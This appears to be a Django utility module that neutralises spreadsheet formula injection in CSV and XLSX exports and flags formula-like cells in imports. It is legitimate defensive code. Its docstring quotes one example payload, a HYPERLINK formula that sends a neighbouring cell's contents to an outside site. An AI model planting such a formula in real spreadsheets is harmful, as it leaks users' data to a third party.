"""The one writer behind every CSV and XLSX download, and the check the imports use on incoming cells.

Spreadsheet formula injection (OWASP "CSV Injection"): a text cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return is run by Excel and LibreOffice as a formula (`=HYPERLINK("http://…?c="&F2, "보기")` sends a
neighbouring cell to another site). Every text value written here that starts so is prefixed with a single
quote, which spreadsheet programs show as text; numbers, dates and booleans are written as they are. No
download writes a cell by itself: `csv_response` for CSV, `SafeWorkbook` (openpyxl's `Workbook`, whose sheets
neutralise what they append) for XLSX.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import StreamingHttpResponse
from django.utils.functional import Promise
from django.utils.translation import gettext as _

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value: Any) -> Any:
    """A text value a spreadsheet would run as a formula, made inert with a leading quote; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    if isinstance(value, Promise):  # a lazy translation
        return neutralise(str(value))
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """UTF-8 CSV with a BOM (so Korean Excel opens it as UTF-8), every cell neutralised."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow(neutralise_row(header))
    for row in rows:
        yield writer.writerow(neutralise_row(row))


def csv_response(*, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def SafeWorkbook():
    """An openpyxl workbook whose sheets neutralise every value written through `append`, `cell(value=…)` and
    `sheet["A1"] = …` (the ways this project writes cells)."""
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

    class SafeWorksheet(Worksheet):
        def append(self, iterable):
            if isinstance(iterable, dict):
                iterable = {key: neutralise(value) for key, value in iterable.items()}
            else:
                iterable = neutralise_row(iterable)
            super().append(iterable)

        def cell(self, row, column, value=None):
            return super().cell(row, column, neutralise(value))

        def __setitem__(self, key, value):
            super().__setitem__(key, neutralise(value))

    class _SafeWorkbook(Workbook):
        def __init__(self):
            super().__init__()
            self._sheets = [SafeWorksheet(self)]

        def create_sheet(self, title=None, index=None):
            sheet = SafeWorksheet(parent=self, title=title)
            self._add_sheet(sheet=sheet, index=index)
            return sheet

    return _SafeWorkbook()


def xlsx_bytes(book) -> bytes:
    import io

    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def formula_cells(row: dict[str, str]) -> list[str]:
    """The columns of an imported row whose text a spreadsheet would run as a formula (for the preview).

    A phone or amount written as "+82 10-1234-5678" or "-5" is data, not a formula: `+` and `-` are flagged only
    when letters, brackets or other symbols follow."""
    flagged = []
    for column, value in row.items():
        text = value if isinstance(value, str) else ""
        if not text:
            continue
        if text[0] in "=@\t\r" or text[0] in "+-" and not all(ch.isdigit() or ch in " -+.()," for ch in text):
            flagged.append(column)
    return flagged


def formula_errors(row: dict[str, str]) -> list[str]:
    return [
        _("%(column)s: starts with %(char)s, which a spreadsheet would run as a formula. Remove it.")
        % {"column": column, "char": repr(row[column][0])[1:-1]}
        for column in formula_cells(row)
    ]
